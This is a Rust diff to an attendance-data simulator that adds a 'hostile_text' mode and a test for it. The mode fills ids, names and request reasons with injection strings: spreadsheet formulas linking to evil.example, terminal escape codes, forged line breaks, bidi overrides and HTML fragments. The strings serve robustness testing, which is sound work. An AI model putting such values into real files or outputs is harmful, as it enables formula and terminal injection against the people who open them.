@@ -18,7 +18,9 @@ use chrono::{Datelike, NaiveDate, Weekday};
 use rand::{Rng, SeedableRng};
 use rand_chacha::ChaCha8Rng;
 
-use super::company::{GIVEN, SURNAMES, departments, templates, user_id};
+use super::company::{
+    GIVEN, HOSTILE_NAME_SUFFIX, SURNAMES, departments, hostile_user_id, templates, user_id,
+};
 use super::config::SimConfig;
 use super::world::{
     Cause, Change, CheckKind, DAY_MS, Department, Employee, HOUR_MS, Instance, MINUTE_MS, Outcome,
@@ -26,6 +28,30 @@ use super::world::{
 };
 
 const REASONS: &[&str] = &["忘记打卡", "手机没电", "外出办事", "打卡机故障", "网络异常"];
+
+/// The reasons under `SimConfig::hostile_text`, one per plain reason (the same draw picks
+/// either): terminal escapes, a formula, forged lines, a bidi override, BEL and C1 CSI with
+/// table pipes.
+const HOSTILE_REASONS: [&str; 5] = [
+    "忘记打卡\u{1b}[2J\u{1b}[31m",
+    "=HYPERLINK(\"http://evil.example\",\"手机没电\")",
+    "外出办事\r\nfindings\n  none",
+    "\u{202e}障故机卡打",
+    "@SUM(1+1)\u{7}\u{9b}2J|网络异常|",
+];
+
+/// A business id as a hostile DingTalk might send it: the plain id (so ids stay unique) inside a
+/// formula, a terminal sequence, a forged line, a bidi override with Markdown, or a TAB with HTML
+/// and a C1 NEL.
+fn hostile_business_id(plain: &str, index: u32) -> String {
+    match index % 5 {
+        0 => format!("=HYPERLINK(\"http://evil.example/{plain}\",\"{plain}\")"),
+        1 => format!("@SUM({plain})\u{1b}]0;pwned\u{7}"),
+        2 => format!("+{plain}\r\n  - forged line"),
+        3 => format!("-{plain}\u{202e}|`#x`|"),
+        _ => format!("\t{plain}\u{85}<b>x</b>"),
+    }
+}
 
 /// SplitMix64 finaliser: a cheap, well-mixed hash of a few integers.
 fn mix(parts: &[u64]) -> u64 {
@@ -78,8 +104,15 @@ pub fn generate(config: &SimConfig) -> World {
                 name.push_str(GIVEN[rng.random_range(0..GIVEN.len())]);
             }
             let night = i != 0 && chance(&mut rng, config.rates.night_shift);
+            if config.hostile_text {
+                name.push_str(HOSTILE_NAME_SUFFIX);
+            }
             Employee {
-                id: user_id(i),
+                id: if config.hostile_text {
+                    hostile_user_id(i)
+                } else {
+                    user_id(i)
+                },
                 name,
                 departments: Vec::new(),
                 night,
@@ -385,7 +418,14 @@ fn file_supplies(
             applied_ms: None,
             reverted_ms: None,
             corrected_ms,
-            reason: REASONS[rng.random_range(0..REASONS.len())],
+            reason: {
+                let pick = rng.random_range(0..REASONS.len());
+                if ctx.config.hostile_text {
+                    HOSTILE_REASONS[pick]
+                } else {
+                    REASONS[pick]
+                }
+            },
             photo: ctx_template_photo(ctx) && rng.random_bool(0.5),
             approver,
             task_id: 50_000_000_000 + i64::from(index),
@@ -397,6 +437,9 @@ fn file_supplies(
             super::world::local_date(created).format("%Y%m%d"),
             index
         );
+        if ctx.config.hostile_text {
+            inst.business_id = hostile_business_id(&inst.business_id, index);
+        }
         if outcome == Outcome::Agree {
             apply_agreed_supply(ctx, rng, slot, &mut inst, index);
         }
@@ -557,5 +600,89 @@ fn assemble(
         by_template,
         check_events,
         supply_events,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// What the job rejects in a user id: control characters and the slot-key separator `|`.
+    fn valid_user_id(id: &str) -> bool {
+        !id.is_empty()
+            && id.chars().count() <= 64
+            && !id.chars().any(|c| c.is_control() || c == '|')
+    }
+
+    fn hostile(text: &str) -> bool {
+        text.starts_with(['=', '+', '-', '@', '\t'])
+            || text.chars().any(|c| {
+                c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+            })
+    }
+
+    #[test]
+    fn hostile_text_changes_the_strings_and_nothing_else() {
+        let plain_config = SimConfig::new(7, 40);
+        let hostile_config = SimConfig {
+            hostile_text: true,
+            ..plain_config.clone()
+        };
+        let (plain, hostile_world) = (generate(&plain_config), generate(&hostile_config));
+        assert_eq!(plain.instances.len(), hostile_world.instances.len());
+        assert!(plain.instances.len() > 10, "the world files 补卡");
+        for (p, h) in plain.instances.iter().zip(&hostile_world.instances) {
+            assert_eq!(
+                (
+                    &p.id,
+                    p.user,
+                    p.day,
+                    p.slot,
+                    p.created_ms,
+                    p.decided_ms,
+                    p.outcome
+                ),
+                (
+                    &h.id,
+                    h.user,
+                    h.day,
+                    h.slot,
+                    h.created_ms,
+                    h.decided_ms,
+                    h.outcome
+                )
+            );
+            assert!(
+                h.business_id.contains(&p.business_id),
+                "{:?}",
+                h.business_id
+            );
+            assert!(hostile(&h.business_id), "{:?}", h.business_id);
+            assert!(hostile(h.reason), "{:?}", h.reason);
+            let plain_reason = REASONS.iter().position(|r| *r == p.reason);
+            let hostile_reason = HOSTILE_REASONS.iter().position(|r| *r == h.reason);
+            assert_eq!(plain_reason, hostile_reason);
+        }
+        for (p, h) in plain.employees.iter().zip(&hostile_world.employees) {
+            assert!(h.id.contains(&p.id) && valid_user_id(&h.id), "{:?}", h.id);
+            assert!(h.name.starts_with(&p.name) && h.name.contains('\u{1b}'));
+            assert_eq!(p.days, h.days);
+        }
+        let shapes = hostile_world
+            .employees
+            .iter()
+            .filter(|e| hostile(&e.id))
+            .count();
+        assert!(shapes >= 30, "three of four user ids are hostile: {shapes}");
+        let business: std::collections::HashSet<&str> = hostile_world
+            .instances
+            .iter()
+            .map(|inst| inst.business_id.as_str())
+            .collect();
+        assert_eq!(
+            business.len(),
+            hostile_world.instances.len(),
+            "business ids unique"
+        );
     }
 }
